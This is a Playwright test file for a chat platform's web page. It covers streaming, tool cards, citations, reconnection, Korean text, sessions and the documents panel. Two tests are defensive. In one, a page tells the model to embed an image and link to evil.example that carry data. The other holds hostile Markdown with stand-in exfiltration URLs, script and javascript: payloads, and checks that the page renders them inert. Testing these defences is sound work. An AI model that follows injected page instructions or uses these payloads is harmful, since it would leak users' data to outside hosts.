"""The chat page in chromium against the platform in both modes (`platform`, `conftest.py`):
every run event shown as the issue asks, a dropped connection resumed, Korean, Markdown that
loads nothing, sessions, and the documents panel naming no server path. Each state is saved
as a screenshot."""

from __future__ import annotations

import json
import re

import httpx
import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.support.fault_proxy import FaultProxy
from tests.support.platform import Platform
from tests.web.chat import ask, index_handbook, normalised, open_chat, settled, stored_answer
from tests.web.conftest import DEAD_PORT, Screenshot, slow_next_answer


def test_token_events_stream_the_answer_piece_by_piece(page: Page, platform: Platform, screenshot: Screenshot) -> None:
    open_chat(page, platform)
    slow_next_answer(platform, 60)
    answer = ask(page, "Tell me how streaming answers work, please")
    lengths: list[int] = []
    while answer.get_attribute("data-state") == "streaming":
        lengths.append(int(answer.get_attribute("data-text-length") or 0))
        if len(lengths) == 5:
            screenshot(page, "streaming")
        page.wait_for_timeout(40)
    settled(answer)
    growing = sorted(set(lengths))
    assert len(growing) >= 3 and growing == sorted(growing), lengths  # seen to grow, never shrink
    assert normalised(answer.locator(".answer-body").inner_text()) == normalised(stored_answer(platform))
    expect(answer.locator(".answer-meta")).to_contain_text("offline-1")  # the done event's model
    screenshot(page, "done")


def test_a_tool_call_that_succeeds_shows_a_card_with_its_url_outcome_and_duration(
    page: Page, platform: Platform, pages_url: str, screenshot: Screenshot
) -> None:
    open_chat(page, platform)
    answer = settled(ask(page, f"Please read {pages_url}/page"))
    card = answer.locator(".tool-card")
    expect(card).to_have_count(1)
    expect(card).to_have_attribute("data-state", "ok")  # tool_start made it, tool_end settled it
    expect(card.locator(".tool-name")).to_have_text("http_get")
    expect(card.locator(".tool-url")).to_contain_text(f"{pages_url}/page")
    expect(card.locator(".tool-outcome")).to_have_text(re.compile(r"^done · \d+ ms$"))
    expect(answer.locator(".answer-body")).to_contain_text("pineapple")
    screenshot(page, "tool-ok")


def test_a_tool_call_that_fails_shows_its_error_code_and_message(
    page: Page, platform: Platform, screenshot: Screenshot
) -> None:
    open_chat(page, platform)
    answer = settled(ask(page, f"Please read http://127.0.0.1:{DEAD_PORT}/gone"))
    card = answer.locator(".tool-card")
    expect(card).to_have_attribute("data-state", "failed")
    expect(card.locator(".tool-outcome")).to_have_text(re.compile(r"^failed · \d+ ms$"))
    expect(card.locator(".error-code")).to_have_text("TOOL_UPSTREAM_UNREACHABLE")
    expect(card.locator(".error-message")).not_to_be_empty()
    screenshot(page, "tool-failed")


def test_citations_are_numbered_sources_and_the_answers_markers_link_to_them(
    page: Page, platform: Platform, pages_url: str, screenshot: Screenshot
) -> None:
    index_handbook(platform)
    open_chat(page, platform)
    settled(ask(page, f"Please read {pages_url}/page"))
    answer = settled(ask(page, "Where can visitors park on weekends?"))
    source = answer.locator(".sources li.citation").first  # [1]: the closest passage
    expect(source).to_have_attribute("value", "1")
    expect(source.locator(".citation-title")).to_have_text("Parking")
    expect(source.locator(".citation-location")).to_contain_text("Parking")
    expect(source.locator(".citation-version")).to_contain_text("v3")
    expect(source.locator(".citation-snippet")).to_contain_text("east garage")
    marker = answer.locator(".answer-body a.citation-ref")
    expect(marker).to_have_text("[1]")
    target = marker.get_attribute("href")
    assert target == f"#{source.get_attribute('id')}"
    marker.click()
    assert page.url.endswith(target)  # followed within the page: nothing fetched
    screenshot(page, "citations")


def test_an_error_shows_its_fallback_and_code(page: Page, platform: Platform, screenshot: Screenshot) -> None:
    open_chat(page, platform)
    answer = settled(ask(page, "[[offline:unauthorized]] Hello"), "error")
    box = answer.locator(".answer-error")
    expect(box).to_have_attribute("role", "alert")
    expect(box.locator(".fallback")).not_to_be_empty()
    expect(box.locator(".error-code")).to_have_text(re.compile(r"^MODEL_[A-Z_]+$"))
    expect(answer.locator(".answer-incomplete")).to_have_count(0)  # nothing was shown: nothing to mark
    screenshot(page, "error")


def test_a_partial_answer_is_marked_incomplete(page: Page, platform: Platform, screenshot: Screenshot) -> None:
    open_chat(page, platform)
    answer = settled(ask(page, "[[offline:drop_mid_stream]] Tell me a long story about rivers and streams"), "error")
    expect(answer.locator(".answer-body")).to_have_class(re.compile(r"\bincomplete\b"))
    expect(answer.locator(".answer-incomplete")).to_contain_text("incomplete")
    expect(answer.locator(".error-code")).to_have_text("MODEL_STREAM_INTERRUPTED")
    expect(answer.locator(".fallback")).to_contain_text("cut off")
    screenshot(page, "partial")


def test_a_connection_dropped_mid_answer_resumes_without_losing_or_repeating_text(
    page: Page, platform: Platform, proxied: tuple[str, FaultProxy], screenshot: Screenshot
) -> None:
    url, proxy = proxied
    open_chat(page, platform, url)
    slow_next_answer(platform, 120)
    answer = ask(page, "Tell me a story about patient rivers, please, slowly")
    expect(answer).to_have_attribute("data-text-length", re.compile(r"^[1-9]\d+$"))  # part of it shown
    shown_before = int(answer.get_attribute("data-text-length") or 0)
    proxy.cut()  # every connection reset: the stream and anything the page tries now
    expect(answer).to_have_attribute("data-connection", "reconnecting")
    expect(page.locator("#status")).to_contain_text("reconnecting")
    screenshot(page, "reconnecting")
    page.wait_for_timeout(600)
    proxy.heal()
    settled(answer)
    expect(answer).to_have_attribute("data-connection", "reconnected")
    stored = stored_answer(platform)
    assert shown_before < len(stored)  # the cut came mid-answer
    assert answer.get_attribute("data-text-length") == str(len(stored))
    assert normalised(answer.locator(".answer-body").inner_text()) == normalised(stored)
    screenshot(page, "resumed")


def test_a_hostile_markdown_image_in_an_answer_is_never_fetched(
    page: Page, platform: Platform, pages_url: str, screenshot: Screenshot
) -> None:
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    open_chat(page, platform)
    # The page tells the model to embed an image and a link to evil.example carrying data.
    settled(ask(page, f"Summarise {pages_url}/exfiltrate"))
    screenshot(page, "hostile-page")
    assert not [u for u in requested if "evil.example" in u]
    assert {httpx.URL(u).host for u in requested} == {"127.0.0.1"}


def test_the_renderer_turns_raw_images_into_links_and_shows_every_links_host(
    page: Page, platform: Platform, screenshot: Screenshot
) -> None:
    """What the server lets through is made inert by the server (answer_links.py); here the page
    is handed the raw Markdown itself, as a server without that guard would send it."""
    answer_text = (
        "Look: ![status](https://evil.example/?q=secret) and [details](https://evil.example/d?x=1) "
        "<img src=https://evil.example/raw.png> <script>document.title='owned'</script> "
        "[js](javascript:alert(1))"
    )
    frames = (
        f'event: token\nid: 1\ndata: {{"request_id":"req_x","seq":1,"type":"token","text":{_json(answer_text)}}}\n\n'
        'event: done\nid: 2\ndata: {"request_id":"req_x","seq":2,"type":"done","session_id":"ses_hostile0001",'
        f'"answer":{_json(answer_text)},"model":"m","tool_calls":[],"usage":{{"prompt_tokens":0,'
        '"completion_tokens":0,"total_tokens":0},"citations":[],"finish_reason":"stop","note":null}\n\n'
    )

    def hostile_stream(route: Route) -> None:
        route.fulfill(status=200, body=frames, headers={"content-type": "text/event-stream", "x-request-id": "req_x"})

    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.route("**/api/chat/stream", hostile_stream)
    open_chat(page, platform)
    answer = settled(ask(page, "Show me"))
    body = answer.locator(".answer-body")
    expect(body.locator("img")).to_have_count(0)
    expect(body.locator("script")).to_have_count(0)
    image = body.locator("a.image-link")
    expect(image).to_contain_text("status")
    for link in body.locator("a[href]").all():
        assert link.get_attribute("target") == "_blank"
        assert link.get_attribute("rel") == "noopener noreferrer"
        assert not (link.get_attribute("href") or "").startswith("javascript:")
    expect(body.locator(".link-host").first).to_have_text("(evil.example)")
    expect(body).to_contain_text("<img src=https://evil.example/raw.png>")  # shown as text, not parsed
    assert page.title() != "owned"
    page.wait_for_timeout(300)
    assert not [u for u in requested if "evil.example" in u]
    screenshot(page, "inert-markdown")


def _json(text: str) -> str:
    return json.dumps(text)


def test_korean_browser_gets_korean_text_and_a_korean_answer(
    browser: Browser, platform: Platform, pages_url: str, screenshot: Screenshot
) -> None:
    index_handbook(platform)
    context = browser.new_context(locale="ko-KR", viewport={"width": 1100, "height": 800})
    page = context.new_page()
    open_chat(page, platform)
    expect(page.locator("html")).to_have_attribute("lang", "ko")
    expect(page.locator("#send")).to_have_text("보내기")
    expect(page.locator("#new-chat")).to_have_text("새 대화")
    settled(ask(page, f"{pages_url}/page 페이지를 읽어 주세요"))
    answer = settled(ask(page, "Where can visitors park on weekends?"))
    expect(answer.locator(".sources h4")).to_have_text("출처")
    expect(page.locator(".tool-card .tool-outcome").first).to_contain_text("완료")
    greeting = settled(ask(page, "안녕하세요, 반갑습니다"))
    expect(greeting.locator(".answer-body")).to_contain_text("오프라인 모델")
    screenshot(page, "korean")
    page.select_option("#language", "en")  # switchable, and remembered for the next visit
    expect(page.locator("#send")).to_have_text("Send")
    page.reload()
    expect(page.locator("#send")).to_have_text("Send")
    context.close()


def test_conversations_continue_start_anew_and_are_listed(
    page: Page, platform: Platform, screenshot: Screenshot
) -> None:
    open_chat(page, platform)
    settled(ask(page, "First topic: rivers"))
    second = settled(ask(page, "And what did I ask first?"))
    expect(second.locator(".answer-body")).to_contain_text("rivers")  # the same session continued
    page.click("#new-chat")
    expect(page.locator(".message")).to_have_count(0)
    settled(ask(page, "Second topic: mountains"))
    listed = page.locator("#sessions-list .session-item")
    expect(listed.first).to_contain_text("Second topic: mountains")
    rivers = listed.filter(has_text="First topic: rivers")
    expect(rivers).to_contain_text("2")
    rivers.click()
    expect(page.locator(".message.user")).to_have_count(2)
    expect(page.locator(".message.user .user-text").first).to_have_text("First topic: rivers")
    expect(rivers).to_have_attribute("aria-current", "true")
    screenshot(page, "sessions")


def test_the_documents_panel_lists_the_index_and_reindexes_with_progress(
    page: Page, platform: Platform, screenshot: Screenshot
) -> None:
    open_chat(page, platform)
    page.click("#toggle-documents")
    page.fill("#reindex-source", "bikes")
    page.fill("#reindex-title", "Bike storage")
    page.fill("#reindex-text", "# Bikes\n\nBikes are kept in the basement room B2.")
    page.click("#reindex-submit")
    expect(page.locator("#reindex-form")).to_have_attribute("data-state", "done")
    progress = page.locator("#reindex-progress")
    assert progress.evaluate("bar => bar.value === bar.max")
    expect(page.locator("#reindex-status")).to_contain_text("1 of 1")
    row = page.locator("#documents-rows tr", has_text="Bike storage")
    expect(row.locator("td").nth(0)).to_have_text("bikes")
    expect(row.locator("td").nth(4)).to_have_text("1")
    screenshot(page, "documents")


def test_the_documents_panel_and_its_api_name_server_files_as_citations_do_never_by_server_path(
    page: Page, platform: Platform, screenshot: Screenshot
) -> None:
    """A file indexed from the server is listed by its path under the allowed root, the name its
    citations show; the absolute path (the index's id for it) reaches neither the API nor the page."""
    assert platform.documents is not None
    root = platform.documents
    policies = root / "policies"
    policies.mkdir(exist_ok=True)
    (policies / "leave.md").write_text("# Annual leave\n\nEveryone gets twenty-five days of annual leave a year.\n")
    open_chat(page, platform)
    page.click("#toggle-documents")
    page.fill("#reindex-source", "policies")
    page.fill("#reindex-paths", str(policies))  # as an operator names it: the server's own path
    page.click("#reindex-submit")
    expect(page.locator("#reindex-form")).to_have_attribute("data-state", "done")
    row = page.locator("#documents-rows tr", has_text="Annual leave")
    expect(row.locator("td").nth(0)).to_have_text("policies")
    expect(row.locator("td").nth(1)).to_have_attribute("title", "policies/leave.md")
    screenshot(page, "documents-by-name")

    listed = httpx.get(f"{platform.base_url}/api/documents", headers=platform.headers, timeout=30)
    assert listed.status_code == 200, listed.text
    assert {d["doc_id"] for d in listed.json()["documents"] if d["source"] == "policies"} == {"policies/leave.md"}
    cited = httpx.post(
        f"{platform.base_url}/api/chat",
        json={"message": "How many days of annual leave does everyone get?"},
        headers=platform.headers,
        timeout=60,
    )
    assert cited.status_code == 200, cited.text
    assert "policies/leave.md" in {c["source"] for c in cited.json()["citations"]}  # the same name

    page.reload()  # the page as it is drawn from the server's answers alone, no form filled in
    if platform.headers:
        expect(page.locator("#key-dialog")).to_be_hidden()  # the key is kept for the tab
    page.click("#toggle-documents")
    expect(page.locator("#documents-rows tr", has_text="Annual leave")).to_be_visible()
    for where, text in (("/api/documents", listed.text), ("the page", page.content())):
        assert str(root) not in text and str(root.resolve()) not in text, f"a server path in {where}"
    absolute = [v for d in listed.json()["documents"] for v in d.values() if isinstance(v, str) and v.startswith("/")]
    assert absolute == [], absolute


def test_a_phone_sized_screen_keeps_the_message_box_in_reach(
    browser: Browser, platform: Platform, screenshot: Screenshot
) -> None:
    context = browser.new_context(locale="en-US", viewport={"width": 390, "height": 844}, is_mobile=True)
    page = context.new_page()
    open_chat(page, platform)
    expect(page.locator("#sessions-panel")).to_be_hidden()  # the conversation has the screen
    settled(ask(page, "Hello from a phone"))
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    expect(page.locator("#send")).to_be_in_viewport()
    screenshot(page, "phone")
    context.close()


@pytest.mark.parametrize("language", ["en", "ko"])
def test_an_answer_with_tool_cards_and_citations_as_docs_show_it(
    browser: Browser, platform: Platform, pages_url: str, screenshot: Screenshot, language: str
) -> None:
    """The two screenshots in docs/web.md (`answer-en`, `answer-ko`), retaken by every run."""
    index_handbook(platform)
    context = browser.new_context(
        locale="ko-KR" if language == "ko" else "en-US", viewport={"width": 1100, "height": 760}
    )
    page = context.new_page()
    open_chat(page, platform)
    page.click("#toggle-sessions")  # closed: the answer has the width
    if language == "ko":
        settled(ask(page, f"이 페이지를 읽어 주세요: {pages_url}/page"))
        answer = settled(ask(page, "방문객은 주말에 어디에 주차하나요?"))
    else:
        settled(ask(page, f"Please read {pages_url}/page"))
        answer = settled(ask(page, "Where can visitors park on weekends?"))
    expect(answer.locator(".sources li.citation").first).to_be_visible()
    expect(page.locator(".tool-card[data-state=ok]")).to_have_count(1)
    screenshot(page, f"answer-{language}")
    context.close()
